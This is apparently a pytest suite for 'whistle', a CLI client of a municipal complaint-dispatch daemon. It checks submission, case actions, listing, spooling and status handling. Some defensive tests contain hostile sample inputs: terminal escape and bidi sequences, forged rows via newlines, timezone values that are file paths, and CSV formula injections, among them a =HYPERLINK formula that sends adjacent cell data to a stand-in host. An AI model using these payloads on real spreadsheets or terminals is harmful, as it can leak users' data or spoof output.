"""The tool `whistle` against a stand-in daemon: submit, act, list, show, spool, language."""
import csv
import hashlib
import io
import json
import os
import socket
import threading

import pytest

import client_kit
from fake_daemon import pb


SUBMIT = ["submit", "--category", "0301", "--area", "420902001", "--title", "东门菜场垃圾"]


def test_submit_prints_number_units_and_promise(kit):
    out = kit.good(*SUBMIT, "--yes")
    assert out.startswith("260213-0001-1  dispatched\n")
    assert "城管执法局" in out and "resolve by 12:01" in out and "promised 02-13 Fri 12:01" in out
    assert "R17  rules.yaml:44" in out


def test_who_only_pretends_to_be_the_daemon_does_not_write_to_the_terminal(kit):
    """The daemon refuses such text; nothing refuses it on the way from a stranger's."""
    kit.good(*SUBMIT, "--yes")
    case = next(iter(kit.daemon.cases.values()))
    case.whistle.title = "a\x1b[2Jb\u009b1mc\u202ed"
    for words in (("show", "260213-0001-1"), ("list",), ("list", "--json"), ("show", "260213-0001-1", "--json")):
        out = kit.good(*words)
        assert "a?[2Jb??1mc???d" in out and not set(out) & set("\x1b\u009b\u202e"), (words, out)


def test_a_title_on_two_lines_is_one_row(kit):
    """It was two rows of the list, the second of which the title had written itself."""
    kit.good(*SUBMIT, "--yes", "--text", "甲\n乙")
    case = next(iter(kit.daemon.cases.values()))
    case.whistle.title = "a\n261127-0099-1  closed\tb\u2028c\u200bd\u200fe"
    lines = len(kit.good("list").splitlines())
    assert lines == 2 and "a?261127-0099-1  closed?b???c???d???e" in kit.good("list")
    unseen = set("\t\u2028\u200b\u200f")
    for words in (("show", "260213-0001-1"), ("watch", "260213-0001-1"), ("watch", "--for", "cg", "--once", "--consumer", "x"),
                  ("show", "260213-0001-1", "--slip"), ("list", "--csv")):
        out = kit.good(*words)
        assert not set(out) & unseen and not any(line.startswith("261127") for line in out.splitlines()), words


def test_what_is_told_on_several_lines_is_one_cell(kit):
    number = kit.submit()
    kit.good("comment", number, "--text", "一\n261127-0099-1  closed\u200b")
    for words in (("watch", "--for", "cg", "--once"), ("show", number)):
        out = kit.good(*words)
        assert "一 261127-0099-1  closed" in out and "\u200b" not in out, out
    assert json.loads(kit.good("show", number, "--json"))["happenings"][-1]["text"].startswith("一\n"), "whole"


@pytest.mark.parametrize("zone", [":/etc/hostname", "/usr/share/zoneinfo/Asia/Tokyo", "../zoneinfo/Asia/Tokyo", "Asia/To kyo"])
def test_a_zone_that_is_a_path_is_not_taken(kit, zone):
    """The C library opens it as a file, and what watch --exec starts inherits it."""
    kit.daemon.zone = zone
    assert kit.submit()
    assert "2026-02-13T00:00:00+00:00" in kit.good("list", "--csv", TZ="UTC"), "the machine's own"
    kit.daemon.zone = "Asia/Tokyo"
    assert "2026-02-13T09:00:00+09:00" in kit.good("list", "--csv", TZ="UTC")


def test_submit_carries_every_field(kit):
    photo = kit.directory / "photo.jpg"
    photo.write_bytes(b"light")
    kit.good("submit", "--kind", "joint", "--category", "0301", "--condition", "b", "--nature", "complaint", "--severity",
             "2", "--area", "420902001", "--lat", "30.92", "--lon", "113.95", "--datum", "gcj02", "--title", "t",
             "--text", "全文", "--name", "张三", "--phone", "138", "--address", "1 号", "--confidential", "--source", "12345",
             "--source-no", "A1", "--on-behalf-of", "李四", "--appointed", "2026-02-14T09:00", "--meeting-point", "东门",
             "--attr", "weather=rain", "--attach", photo, "--reported", "07:30", "--yes",
             "--agent-name", "周敏", "--staff-no", "0042")
    request = [r for r in kit.daemon.seen if r.WhichOneof("op") == "submit"][0]
    w = request.submit.whistle
    assert (request.agent.name, request.agent.staff_no) == ("周敏", "0042")
    assert (w.kind, w.nature, w.severity, w.condition) == (pb.KIND_JOINT, pb.NATURE_COMPLAINT, 2, "b")
    assert (w.position.latitude, w.position.longitude, w.position.datum) == (30.92, 113.95, pb.DATUM_GCJ02)
    assert (w.personal.name, w.personal.phone, w.personal.address, w.personal.text) == ("张三", "138", "1 号", "全文")
    assert w.confidential and (w.source, w.source_no, w.on_behalf_of) == ("12345", "A1", "李四")
    assert w.appointed_ms == 1771030800000 and w.meeting_point == "东门"  # 09:00 in Shanghai, not in UTC
    assert w.reported_ms == 1770939000000
    assert (w.attributes[0].name, w.attributes[0].value) == ("weather", "rain")
    assert w.attachments[0].sha256 == hashlib.sha256(b"light").digest() and w.attachments[0].bytes == 5
    assert w.attachments[0].media_type == "image/jpeg" and w.attachments[0].uri.endswith("photo.jpg")


def test_submit_previews_and_asks(kit):
    status, out, _ = kit.run(*SUBMIT, input="n\n")
    assert status == 1 and "Who would come:" in out and not kit.daemon.cases
    status, out, _ = kit.run(*SUBMIT, input="y\n")
    assert status == 0 and "260213-0001-1" in out and len(kit.daemon.cases) == 1
    assert kit.good(*SUBMIT, "--preview").startswith("Who would come:") and len(kit.daemon.cases) == 1


def test_submit_asks_for_everything(kit):
    answers = ["", "垃圾", "2", "420902002", "东门垃圾", "很多天了", "东门 3 号", "张三", "138", "y"]
    status, out, err = kit.run("submit", input="\n".join(answers) + "\n")
    assert status == 0, (out, err)
    w = [r.submit.whistle for r in kit.daemon.seen if r.WhichOneof("op") == "submit"][0]
    assert (w.category, w.condition, w.area, w.title) == ("0301", "b", "420902002", "东门垃圾")
    assert (w.kind, w.personal.text, w.personal.name) == (pb.KIND_ISSUE, "很多天了", "张三")


def test_refusal_has_status_sentence_and_field(kit):
    status, out, err = kit.run("submit", "--category", "0301", "--area", "99", "--title", "t", "--yes")
    assert (status, out) == (1, "") and err == "whistle: there is no area 99 [whistle.area]\n"
    status, _, err = kit.run("submit", "--kind", "nonsense", "--yes")
    assert status == 2 and "no such word" in err


def test_acts_one_line_each_and_status(kit):
    one, two = kit.submit(), kit.submit("另一")
    status, out, _ = kit.run("accept", one, "260213-0999-9", two, "--person", "王工")
    assert status == 1
    assert out.splitlines() == [f"{one}  accept · in hand", "260213-0999-9: there is no case 260213-0999-9 [number]",
                                f"{two}  accept · in hand"]
    numbers = kit.directory / "numbers.txt"
    numbers.write_text(f"# today's\n{one} first\n\n{two}\n")
    assert len(kit.good("resolve", "--from", numbers, "--text", "好了").splitlines()) == 2
    assert [a.text for a in kit.daemon.acts(pb.VERB_RESOLVE)] == ["好了", "好了"]
    assert kit.run("accept")[0] == 2
    assert kit.run("evaluate", one)[0] == 2


def test_what_a_unit_asks_for_carries_its_fields(kit):
    number = kit.submit()
    kit.good("extend", number, "--reason", "E01", "--limit", "4 working-hours", "--stage", "accept", "--text", "雨天")
    kit.good("pause", number, "--reason", "P01", "--until", "3h")
    kit.good("suspend", number, "--to", "cg", "--reason", "G01", "--until", "2026-03-09")
    kit.good("appeal", number, "--reason", "A01", "--stage", "报到")
    asked = [kit.daemon.acts(verb)[0] for verb in (pb.VERB_EXTEND, pb.VERB_PAUSE, pb.VERB_SUSPEND, pb.VERB_APPEAL)]
    assert [a.reason for a in asked] == ["E01", "P01", "G01", "A01"] and [a.target for a in asked] == ["", "", "cg", ""]
    assert (asked[0].limit, asked[0].stage, asked[0].text) == ("4 working-hours", pb.STAGE_ACCEPT, "雨天")
    assert asked[1].due_ms == 1770940860000 + 3 * 3600000 and asked[2].due_ms == 1772985600000  # 00:00 in Shanghai
    assert asked[3].stage == pb.STAGE_REPORT
    assert kit.run("extend", number, "--stage", "breakfast")[0] == 2
    assert kit.run("suspend", number, "--until", "soon")[0] == 2


def test_what_a_supervisor_answers_carries_its_fields(kit):
    number = kit.submit()
    assert kit.good("grant", number, "--to", "cg").startswith(f"{number}  grant")
    kit.good("refuse", number, "--to", "cg", "--reason", "R01")
    kit.good("resume", number)
    kit.good("change-limit", number, "--to", "cg", "--limit", "2工作日", "--stage", "resolve", "--reason", "c")
    kit.good("advance", number, "--unit", "cg", "--text", "停工了")
    photo = kit.directory / "photo.jpg"
    photo.write_bytes(b"light")
    kit.good("verify", number, "--not-solved", "--to", "cg", "--attach", photo)
    assert kit.daemon.acts(pb.VERB_GRANT)[0].target == "cg" and kit.daemon.acts(pb.VERB_REFUSE)[0].reason == "R01"
    assert kit.daemon.acts(pb.VERB_RESUME)[0].target == ""
    changed = kit.daemon.acts(pb.VERB_CHANGE_LIMIT)[0]
    assert (changed.target, changed.limit, changed.stage) == ("cg", "2工作日", pb.STAGE_RESOLVE)
    assert kit.daemon.acts(pb.VERB_ADVANCE)[0].unit == "cg"
    verified = kit.daemon.acts(pb.VERB_VERIFY)[0]
    assert verified.verdict == pb.VERDICT_NOT_SOLVED and verified.attachments[0].bytes == 5
    assert kit.run("verify", number)[0] == 2 and kit.run("grant", number, "--limit", "1工作日")[0] == 2


def test_urge_late_finds_the_late(kit):
    number = kit.submit()
    kit.good("urge", "--late", number)
    assert [a.target for a in kit.daemon.acts(pb.VERB_URGE)] == ["cg"]


def test_relative_times_rest_on_the_citys_clock(kit):
    number = kit.submit()
    kit.good("report", number, "--eta", "30m", "--heads", "3")
    kit.good("supervise", number, "--to", "cg", "--due", "10:00")
    assert kit.daemon.acts(pb.VERB_REPORT)[0].eta_ms == 1770940860000 + 1800000
    assert kit.daemon.acts(pb.VERB_REPORT)[0].head_count == 3
    assert kit.daemon.acts(pb.VERB_SUPERVISE)[0].due_ms == 1770948000000


def test_list_pages_through_and_limits(kit):
    numbers = [kit.submit(f"题 {i}") for i in range(7)]
    out = kit.good("list")
    assert [line.split()[0] for line in out.splitlines()[1:]] == numbers
    assert len(kit.good("list", "--max", "4").splitlines()) == 5
    kit.good("list", "--due-within", "2h", "--unit", "cg", "--state", "in_hand", "--state", "dispatched", "--open")
    asked = [r.list for r in kit.daemon.seen if r.WhichOneof("op") == "list"][-1]
    assert asked.due_before_ms == 1770940860000 + 7200000 and asked.unit == "cg" and asked.open_only
    assert list(asked.states) == [pb.CASE_STATE_IN_HAND, pb.CASE_STATE_DISPATCHED]


def test_list_csv_and_json(kit):
    kit.submit('他说 "快,点"')
    out = kit.good("list", "--csv")
    assert out.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(out[1:])))
    assert rows[0]["title"] == '他说 "快,点"' and rows[0]["due"] == "2026-02-13T08:00:00+08:00"
    row = json.loads(kit.good("list", "--json"))
    assert row["title"] == '他说 "快,点"' and row["state"] == "dispatched" and row["overdue"] is True
    assert row["due_ms"] == 1770940800000 and row["due"] == "2026-02-13T08:00:00+08:00"


def test_csv_holds_no_formula(kit):
    """A spreadsheet ran a title as one: =HYPERLINK sent away what stood beside it."""
    titles = ['=HYPERLINK("http://x/"&A1)', "+A1", "-A1", "@sum", "＝A1", "-5", "+8613800138000", "a=b"]
    for title in titles:
        kit.submit(title)
    rows = list(csv.DictReader(io.StringIO(kit.good("list", "--csv")[1:])))
    told = {row["title"] for row in rows}
    assert told == {"'" + title for title in titles[:5]} | set(titles[5:])
    kit.daemon.fact_pages[0][0].title = titles[0]
    assert '"\'=HYPERLINK(""http://x/""&A1)"' in kit.good("rates", "--cases", "rework", "--csv")


def test_show_in_six_steps_json_and_slip(kit):
    number = kit.submit()
    kit.good("accept", number, "--person", "王工")
    kit.good("urge", number, "--to", "cg")
    out = kit.good("show", number)
    order = [out.index(step) for step in ("Intake", "Analysis", "Work", "Feedback", "Evaluation", "Supervision")]
    assert order == sorted(order) and "王工" in out
    view = json.loads(kit.good("show", "--json", number))
    assert view["case"]["number"] == number and len(view["happenings"]) == 4
    assert view["case"]["summons"][0]["state"] == "accepted" and view["happenings"][3]["event"]["kind"] == "urged"
    assert "DISPATCH SLIP" in kit.good("show", "--slip", number)
    assert kit.run("show", "260213-0999-9")[0] == 1


def test_board_is_plain_once_without_a_terminal(kit):
    number = kit.submit()
    out = kit.good("watch", number)
    assert "王工" in out and "1 min late" in out and "\033" not in out


def test_away_keeps_and_send_delivers_once(kit):
    kit.daemon.stop()
    status, _, err = kit.run(*SUBMIT, "--yes", WHISTLE_TIMEOUT="1")
    assert status == 75 and "whistle send" in err
    spool = kit.directory / "state" / "whistle" / "spool"
    assert len(list(spool.glob("*.whistle"))) == 1 and not list(spool.glob(".*"))
    status, out, _ = kit.run("send", WHISTLE_TIMEOUT="1")
    assert status == 1 and "delivered 0, kept 1" in out
    kit.start()
    assert "delivered 1, kept 0" in kit.good("send")
    assert len(kit.daemon.cases) == 1 and not list(spool.iterdir())
    name = list(kit.daemon.answers)[0]
    assert kit.good("send") == "delivered 0, kept 0\n" and len(name) == 16


def test_kept_in_doubt_is_not_doubled(kit):
    """The daemon did it, its answers were lost, and the whistle went to the spool."""
    kit.daemon.drop = 99
    assert kit.run(*SUBMIT, "--yes", WHISTLE_TIMEOUT="1")[0] == 75
    assert len(kit.daemon.cases) == 1
    kit.daemon.drop = 0
    assert "260213-0001-1" in kit.good("send") and len(kit.daemon.cases) == 1
    assert len({r.id for r in kit.daemon.seen if r.WhichOneof("op") == "submit"}) == 1


def test_stale_id_gets_a_new_one_and_existed_is_told(kit):
    """Two days on the daemon forgot the id; the source and number still tell that it is there."""
    kit.daemon.drop = 99
    kit.run(*SUBMIT, "--yes", WHISTLE_TIMEOUT="1")
    kit.daemon.drop = 0
    old = kit.daemon.seen[0].id
    kit.daemon.answers.clear()
    work = kit.daemon.work
    kit.daemon.work = lambda e, r: kit.daemon.refuse("stale_id", "48") if r.id == old else work(e, r)
    out = kit.good("send")
    assert "was there already" in out and len(kit.daemon.cases) == 1


def test_refused_for_good_is_put_aside(kit):
    kit.daemon.stop()
    kit.run("submit", "--category", "0301", "--area", "99", "--title", "t", "--yes", WHISTLE_TIMEOUT="1")
    kit.start()
    status, out, _ = kit.run("send")
    assert status == 1 and "there is no area 99" in out
    assert [p.suffix for p in (kit.directory / "state/whistle/spool").iterdir()] == [".refused"]


def test_settings_file_and_order(kit):
    config = kit.directory / "config"
    config.mkdir()
    (config / "whistle.yaml").write_text(f"url: {kit.url}\nprincipal: from-file\nagent-name: 文件\n")
    more = dict(WHISTLE_URL="", WHISTLE_PRINCIPAL="")
    kit.good("list", **more)
    assert kit.run("list", "--principal", "stranger", **more)[0] == 1
    assert kit.daemon.seen[0].agent.name == "文件"
    (config / "whistle.yaml").write_text("colour: red\n")
    status, _, err = kit.run("list")
    assert status == 1 and "the setting colour is not known" in err
    (config / "whistle.yaml").write_bytes(b"url: \xff\xfe\n")
    assert kit.run("list")[0] == 1


def answering_once(kit, answer):
    """A status socket that answers one line: (its path, what it heard)."""
    path, heard, listener = f"{kit.directory}/status.sock", [], socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen(1)

    def serve():
        with listener, listener.accept()[0] as connection:
            heard.append(connection.makefile().readline())
            connection.sendall(answer)

    threading.Thread(target=serve, daemon=True).start()
    return path, heard


def test_status_passes_a_line(kit):
    path, heard = answering_once(kit, b"all is well\n")
    assert kit.good("status", "json", "feeds", WHISTLE_STATUS=path) == "all is well\n"
    assert heard == ["json feeds\n"]
    assert kit.run("status", WHISTLE_STATUS=f"{kit.directory}/none")[0] == 1


@pytest.mark.parametrize("words, answer, status", [
    (["backup", "/x"], b"", 1), (["backup", "/x"], b"ok /x holds", 1), (["backup", "/x"], b"ok /x holds\n", 1),
    (["backup", "/x"], b"ok /x holds\n\n", 0), (["backup", "/x"], b"error io: no\n\n", 1),
    (["json", "check"], b"", 1), (["json", "check"], b'{"code":"ok"', 1), (["json", "check"], b'{"code":"ok"}\n', 0),
    (["json", "check"], b'{"code":"corrupt"}\n', 1)])
def test_status_fails_unless_it_hears_all_of_a_good_answer(kit, words, answer, status):
    """A daemon that stopped meanwhile said nothing, and that was taken for good."""
    path, _ = answering_once(kit, answer)
    done, out, said = kit.run("status", *words, WHISTLE_STATUS=path)
    assert done == status and out == answer.decode(), said
    whole = answer.endswith(b"\n" if words[0] == "json" else b"\n\n")
    assert (f"no status from {path}" in said) == (not whole), said


def test_reasons_are_looked_up_verb_by_verb(kit):
    assert kit.good("catalog", "--reasons").splitlines()[-8:] == [
        "Reasons to decline:", "  D02  非本单位职责", "Reasons to hand up:", "  H01  超出本级权限", "Reasons to extend:",
        "  E01  天气", "Reasons to brand_new:", "  X  新"]
    assert "延期的原因:\n  E01" in kit.good("catalog", "--reasons", LANGUAGE="zh_CN")
    kit.daemon.old = True
    assert kit.good("catalog", "--reasons").splitlines()[-2:] == ["Reasons for a decline:", "  D02  非本单位职责"]


def test_wrong_command_and_help(kit):
    assert kit.run()[0] == 2 and kit.run("dance")[0] == 2
    assert "submit" in kit.good("--help") and "--person" in kit.good("accept", "--help")
    assert kit.good("--version").startswith("whistle ")
    assert "--person" not in kit.good("cancel", "--help")
    assert kit.run("list", "--colour")[0] == 2


def test_full_output_is_an_error(kit):
    kit.submit()
    if os.path.exists("/dev/full"):
        import subprocess
        with open("/dev/full", "w") as full:
            assert subprocess.run([client_kit.BUILD / "whistle", "list"], env=kit.environment(), stdout=full).returncode
